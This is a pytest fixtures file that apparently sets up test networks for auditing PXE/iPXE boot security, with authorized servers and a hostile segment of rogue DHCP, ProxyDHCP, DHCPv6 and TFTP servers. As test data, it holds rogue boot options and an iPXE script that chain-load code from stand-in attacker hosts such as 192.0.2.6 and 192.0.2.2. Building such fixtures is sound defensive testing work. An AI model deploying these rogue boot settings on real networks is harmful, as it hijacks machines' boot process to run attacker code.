"""Fixtures for the audit: a test PKI, and two segments of real servers in namespaces.

``clean_segment``: one authorized dnsmasq (DHCPv4 + DHCPv6 + read-only TFTP, breaks the
iPXE loop with an https:// script) and an HTTPS origin with a test CA.
``hostile_segment``: the same authorized server plus a rogue dnsmasq (TFTP boot file on a
writable tftpy server, http:// URL for UEFI, no iPXE loop break), a ProxyDHCP dnsmasq, a
DHCPv6 dnsmasq with an http:// boot URL, and a responder that sends malformed packets.
"""

from __future__ import annotations

import datetime
import hashlib
import ipaddress
import json
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID

from tests.audit.netns import Segment, missing_tools

GOOD_IPXE = (b"\x55\xaa" + b"\x00" * 62 + b"PXE->EB:" + b" iPXE 1.21.1+ test build "
             + bytes(range(256)) * 20)
EVIL_IPXE = (b"\x55\xaa" + b"\x00" * 62 + b"PXE->EB:" + b" iPXE 1.21.1+ patched "
             + bytes(range(255, -1, -1)) * 20)
GOOD_SCRIPT = (b"#!ipxe\nimgtrust --permanent\nkernel https://192.0.2.1/vmlinuz\n"
               b"imgverify vmlinuz https://192.0.2.1/vmlinuz.sig\nboot\n")
EVIL_SCRIPT = b"#!ipxe\nchain http://192.0.2.6/evil.ipxe\n"
PXELINUX = b"PXELINUX 6.04 (test build) " + b"\x90" * 600


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


@dataclass
class AuditPki:
    root_pem: Path
    other_root_pem: Path
    chain_pem: Path
    key_pem: Path
    root_sha256: str
    other_chain_pem: Path  # a certificate for 192.0.2.1 from the other root, and its key
    other_key_pem: Path


def _name(cn: str) -> x509.Name:
    return x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, cn)])


def _root(cn: str) -> tuple[ec.EllipticCurvePrivateKey, x509.Certificate]:
    key = ec.generate_private_key(ec.SECP256R1())
    now = datetime.datetime.now(datetime.UTC)
    cert = (
        x509.CertificateBuilder().subject_name(_name(cn)).issuer_name(_name(cn))
        .public_key(key.public_key()).serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=30))
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .add_extension(x509.KeyUsage(False, False, False, False, False, True, True, False, False),
                       critical=True)
        .sign(key, hashes.SHA256())
    )
    return key, cert


def _origin_leaf(issuer_key: ec.EllipticCurvePrivateKey, issuer: x509.Certificate
                 ) -> tuple[ec.EllipticCurvePrivateKey, x509.Certificate]:
    """A TLS server certificate for the origin (192.0.2.1 and 2001:db8::1)."""
    key = ec.generate_private_key(ec.SECP256R1())
    now = datetime.datetime.now(datetime.UTC)
    leaf = (
        x509.CertificateBuilder().subject_name(_name("192.0.2.1")).issuer_name(issuer.subject)
        .public_key(key.public_key()).serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=30))
        .add_extension(x509.SubjectAlternativeName([
            x509.IPAddress(ipaddress.ip_address("192.0.2.1")),
            x509.IPAddress(ipaddress.ip_address("2001:db8::1")),
        ]), critical=False)
        .add_extension(x509.ExtendedKeyUsage([ExtendedKeyUsageOID.SERVER_AUTH]),
                       critical=False)
        .sign(issuer_key, hashes.SHA256())
    )
    return key, leaf


@pytest.fixture(scope="session")
def test_pki(tmp_path_factory: pytest.TempPathFactory) -> AuditPki:
    d = tmp_path_factory.mktemp("audit-pki")
    root_key, root = _root("trustboot audit test root")
    other_key, other = _root("some other root")
    pem = serialization.Encoding.PEM
    (d / "root.pem").write_bytes(root.public_bytes(pem))
    (d / "other-root.pem").write_bytes(other.public_bytes(pem))
    for name, (key, leaf), issuer in (("", _origin_leaf(root_key, root), root),
                                      ("other-", _origin_leaf(other_key, other), other)):
        (d / f"{name}chain.pem").write_bytes(leaf.public_bytes(pem) + issuer.public_bytes(pem))
        (d / f"{name}key.pem").write_bytes(key.private_bytes(
            pem, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()))
    return AuditPki(d / "root.pem", d / "other-root.pem", d / "chain.pem", d / "key.pem",
                    sha256(root.public_bytes(serialization.Encoding.DER)),
                    d / "other-chain.pem", d / "other-key.pem")


def _write(root: Path, files: dict[str, bytes]) -> Path:
    for name, data in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    return root


AUTH_DNSMASQ = (
    "--dhcp-range=192.0.2.100,192.0.2.199,255.255.255.0,10m",
    "--dhcp-range=2001:db8::100,2001:db8::1ff,64,10m",
    "--dhcp-userclass=set:ipxe,iPXE",
    "--dhcp-boot=tag:!ipxe,undionly.kpxe",
    "--dhcp-boot=tag:ipxe,https://192.0.2.1/boot.ipxe",
    "--dhcp-option=option6:bootfile-url,https://[2001:db8::1]/boot.ipxe",
    "--enable-tftp",
)


def _authorized(seg: Segment, workdir: Path, pki: AuditPki) -> None:
    auth = seg.add_host("auth", 1, ipv6=True)
    tftp_root = _write(workdir / "auth-tftp", {"undionly.kpxe": GOOD_IPXE})
    https_root = _write(workdir / "auth-https", {"boot.ipxe": GOOD_SCRIPT})
    seg.start_dnsmasq(auth, *AUTH_DNSMASQ, f"--tftp-root={tftp_root}")
    seg.start_server(auth, "https", str(https_root), str(pki.chain_pem), str(pki.key_pem))


def write_manifest(path: Path, pki: AuditPki) -> Path:
    path.write_text(json.dumps({
        "release": "test-1", "origin": "https://192.0.2.1/", "ca_sha256": pki.root_sha256,
        "files": [
            {"name": "undionly.kpxe", "sha256": sha256(GOOD_IPXE), "size": len(GOOD_IPXE)},
            {"name": "boot.ipxe", "sha256": sha256(GOOD_SCRIPT), "size": len(GOOD_SCRIPT)},
        ],
    }))
    return path


def write_policy(path: Path, pki: AuditPki, *, ca_file: Path | None = None) -> Path:
    manifest = write_manifest(path.parent / "release.json", pki)
    ca = ca_file or pki.root_pem
    path.write_text(
        "authorized_servers:\n"
        "  - name: core-dhcp\n    ip: 192.0.2.1\n    mac: 02:74:62:00:00:01\n    role: dhcp\n"
        "  - name: core-dhcpv6\n    mac: 02:74:62:00:00:01\n    role: dhcpv6\n"
        f"release_manifest: {manifest.name}\n"
        f"expected_ca_file: {ca}\n"
        "expected_origin: ['https://[2001:db8::1]/']\n"
    )
    return path


def _skip_unless_capable() -> None:
    reason = missing_tools()
    if reason:
        pytest.skip(reason)


@contextmanager
def _segment(tmp_path_factory: pytest.TempPathFactory, name: str, pki: AuditPki
             ) -> Iterator[tuple[Segment, Path]]:
    """A segment with the authorized servers up, torn down afterwards (or a skip)."""
    _skip_unless_capable()
    workdir = tmp_path_factory.mktemp(name)
    seg = Segment(workdir)
    try:
        _authorized(seg, workdir, pki)
        yield seg, workdir
    finally:
        seg.close()


@pytest.fixture(scope="session")
def clean_segment(tmp_path_factory: pytest.TempPathFactory, test_pki: AuditPki
                  ) -> Iterator[Segment]:
    with _segment(tmp_path_factory, "audit-clean", test_pki) as (seg, _workdir):
        seg.add_host("client", 50, ipv6=True)
        yield seg


@pytest.fixture(scope="session")
def hostile_segment(tmp_path_factory: pytest.TempPathFactory, test_pki: AuditPki
                    ) -> Iterator[Segment]:
    with _segment(tmp_path_factory, "audit-hostile", test_pki) as (seg, workdir):
        rogue = seg.add_host("rogue", 2)
        seg.start_dnsmasq(
            rogue, "--dhcp-range=192.0.2.200,192.0.2.249,255.255.255.0,10m",
            "--dhcp-match=set:efi64,option:client-arch,7",
            "--dhcp-boot=tag:efi64,http://192.0.2.2/evil.efi",
            "--dhcp-boot=tag:!efi64,undionly.kpxe,,192.0.2.6",
        )
        proxy = seg.add_host("proxy", 3)
        proxy_root = _write(workdir / "proxy-root", {"pxelinux.0": PXELINUX})
        seg.start_dnsmasq(
            proxy, "--dhcp-range=192.0.2.0,proxy", "--enable-tftp",
            f"--tftp-root={proxy_root}", "--pxe-service=x86PC,Network boot,pxelinux",
        )
        v6 = seg.add_host("dhcp6", 4, ipv4=False, ipv6=True)
        seg.start_dnsmasq(
            v6, "--dhcp-range=2001:db8::300,2001:db8::3ff,64,10m",
            "--dhcp-option=option6:bootfile-url,http://[2001:db8::4]/boot.efi",
        )
        tftpw = seg.add_host("tftpw", 6)
        tftpw_root = _write(workdir / "tftpw-root", {
            "undionly.kpxe": EVIL_IPXE, "boot.ipxe": EVIL_SCRIPT,
            "pxelinux.cfg/default": b"DEFAULT linux\nAPPEND initrd=http://192.0.2.6/i\n",
        })
        seg.start_server(tftpw, "tftp", str(tftpw_root))
        hostile = seg.add_host("hostile", 9)
        seg.start_server(hostile, "hostile-dhcp", "eth0")
        seg.add_host("client", 50, ipv6=True)
        seg.add_host("client2", 51)
        yield seg
